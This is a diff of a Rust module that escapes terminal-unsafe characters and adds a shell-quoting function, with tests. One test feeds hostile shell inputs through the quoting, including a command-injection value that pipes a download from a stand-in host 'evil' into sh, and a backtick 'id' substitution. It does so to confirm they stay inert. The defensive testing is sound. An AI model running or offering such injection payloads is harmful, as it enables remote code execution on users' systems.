@@ -1,19 +1,41 @@
 use std::borrow::Cow;
 
-/// A text from a plugin or a file name, fit for a terminal: characters that could move the
-/// cursor, change colours, reorder or hide text are written as escapes.
+use syncmgr_host::text::{Part, parts};
+
+/// Makes a text of a plugin, or a file name, safe to print on a terminal: characters that could
+/// move the cursor, change colors, reorder or hide text are written as escapes.
 pub(crate) fn escape(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(is_harmful) {
-        return Cow::Borrowed(text);
+    let mut found = parts(text);
+    match found.next() {
+        None => return Cow::Borrowed(text),
+        Some(Part::Plain(plain)) if plain.len() == text.len() => return Cow::Borrowed(text),
+        Some(Part::Plain(_) | Part::Harmful(_)) => {}
     }
     let mut escaped = String::with_capacity(text.len() + 16);
-    for character in text.chars() {
-        match is_harmful(character) {
-            true => escaped.extend(character.escape_unicode()),
-            false => escaped.push(character),
+    for part in parts(text) {
+        match part {
+            Part::Plain(plain) => escaped.push_str(plain),
+            Part::Harmful(character) => escaped.extend(character.escape_unicode()),
         }
     }
     Cow::Owned(escaped)
+}
+
+/// Quotes a word of a command line, so that a shell takes it as one word and carries nothing out.
+/// Everything that is printed to be pasted goes through here.
+pub(crate) fn quote(word: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.,:=/+@%".contains(&byte);
+    let first = word.as_bytes().first();
+    let is_plain_here = |byte: u8| is_plain(byte) || cfg!(windows) && byte == b'\\';
+    if first.is_some_and(|first| *first != b'=') && word.bytes().all(is_plain_here) {
+        return Cow::Borrowed(word);
+    }
+    let escaped = escape(word);
+    Cow::Owned(match cfg!(windows) {
+        // A path has no `"` there.
+        true => format!("\"{escaped}\""),
+        false => format!("'{}'", escaped.replace('\'', r"'\''")),
+    })
 }
 
 /// The same of a text of several lines, whose other lines cannot be taken for one of the program's.
@@ -26,19 +48,6 @@ pub(crate) fn escape_lines(text: &str) -> String {
         shown.push(format!("and {more} more lines").into());
     }
     shown.join("\n  | ")
-}
-
-fn is_harmful(character: char) -> bool {
-    character.is_control()
-        || matches!(character,
-            // Line and paragraph separators.
-            '\u{2028}' | '\u{2029}'
-            // Direction marks, embeddings, overrides and isolates.
-            | '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
-            // Characters without width.
-            | '\u{200b}' | '\u{2060}' | '\u{feff}' | '\u{00ad}'
-            // Tags, which nothing shows.
-            | '\u{e0000}'..='\u{e007f}')
 }
 
 #[cfg(test)]
@@ -54,6 +63,7 @@ mod tests {
             ("exe.\u{202e}gpj", "exe.\\u{202e}gpj"),
             ("c1\u{9b}2J", "c1\\u{9b}2J"),
             ("hid\u{200b}den", "hid\\u{200b}den"),
+            ("a\u{fe0f}\u{3164}", "a\\u{fe0f}\\u{3164}"),
         ] {
             assert_eq!(escape(text), expected);
         }
@@ -70,5 +80,31 @@ mod tests {
         ] {
             assert_eq!(escape_lines(text), expected);
         }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_quoted_word_is_one_word_for_a_shell() {
+        for word in [
+            "",
+            "plain",
+            "left=PATH:ro",
+            "/tmp/a b",
+            "$HOME;curl evil|sh;#",
+            "it's `id`",
+            "~root",
+            "*",
+            "=ls",
+            "a\\b\"c",
+            "ünï",
+            "--dir x=/",
+        ] {
+            let script = format!("printf %s {}", quote(word));
+            let output = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
+            assert_eq!(String::from_utf8_lossy(&output.stdout), word, "{script}");
+        }
+        assert_eq!(quote("left=PATH:ro"), "left=PATH:ro");
+        // What a terminal must not show is no part of a command that works.
+        assert_eq!(quote("a\u{1b}"), "'a\\u{1b}'");
     }
 }
